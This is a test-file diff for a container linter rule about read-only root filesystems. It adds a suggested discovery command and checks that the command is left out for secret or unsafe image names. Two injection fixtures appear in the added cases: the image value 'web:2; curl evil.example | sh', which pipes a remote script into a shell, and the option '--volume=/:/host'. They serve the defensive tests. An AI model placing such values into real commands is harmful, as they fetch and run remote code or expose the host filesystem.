@@ -11,6 +11,8 @@ const one = (securityContext: unknown, rest: object = {}) =>
 const cured = (rest: object = {}, security: object = {}) =>
   one({ ...security, readOnlyRootFilesystem: true }, rest).props;
 
+const mirrored = `registry.example:5000/team/web:2@sha256:${"0123456789abcdef".repeat(4)}`;
+
 testRule(readOnlyRoot, {
   valid: {
     "the flag set to true": one({ readOnlyRootFilesystem: true }),
@@ -61,18 +63,28 @@ testRule(readOnlyRoot, {
       says: [
         'container "web" has a writable root filesystem; set readOnly to true' +
           "; remove uploads and mount the files from the host, or put them into the image" +
-          "; the catalogue does not know what example writes",
+          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
       ],
       cured: null,
     },
     "files to upload that are not known, so that nothing is cured yet": {
       given: container({ uploads: unknown }),
-      says: [writable("readOnly", "; the catalogue does not know what example writes")],
+      says: [
+        writable(
+          "readOnly",
+          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
+        ),
+      ],
       cured: null,
     },
     "an empty list of files to upload": {
       given: container({ uploads: [] }),
-      says: [writable("readOnly", "; the catalogue does not know what example writes")],
+      says: [
+        writable(
+          "readOnly",
+          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
+        ),
+      ],
       cured: container({ uploads: [], readOnly: true }).props,
     },
     "a misspelt key": {
@@ -136,9 +148,39 @@ testRule(readOnlyRoot, {
       ],
       cured: container({ image: `sha256:${"a".repeat(64)}`, readOnly: true }).props,
     },
+    "an image that nobody knows, with the command that finds out, which has the image as it is written": {
+      given: container({ image: mirrored }),
+      says: [
+        writable(
+          "readOnly",
+          `; the catalogue does not know what team/web:2 writes: npx @readonly-rootfs/cli discover ${mirrored} finds out`,
+        ),
+      ],
+      cured: container({ image: mirrored, readOnly: true }).props,
+    },
+    "an image that is secret, which no command repeats": {
+      given: container({ image: secret(mirrored) }),
+      says: [writable("readOnly")],
+      cured: container({ image: secret(mirrored), readOnly: true }).props,
+    },
+    "a text with words of a shell for an image, which no command repeats": {
+      given: container({ image: "web:2; curl evil.example | sh" }),
+      says: [writable("readOnly")],
+      cured: container({ image: "web:2; curl evil.example | sh", readOnly: true }).props,
+    },
+    "an option for an image, which no command repeats": {
+      given: container({ image: "--volume=/:/host" }),
+      says: [writable("readOnly")],
+      cured: container({ image: "--volume=/:/host", readOnly: true }).props,
+    },
     "secrets and unknowns beside it, which stay": {
       given: container({ envs: [secret("PASSWORD=hunter2"), unknown], readOnly: false }),
-      says: [writable("readOnly", "; the catalogue does not know what example writes")],
+      says: [
+        writable(
+          "readOnly",
+          "; the catalogue does not know what example writes: npx @readonly-rootfs/cli discover example finds out",
+        ),
+      ],
       cured: container({ envs: [secret("PASSWORD=hunter2"), unknown], readOnly: true }).props,
     },
   },
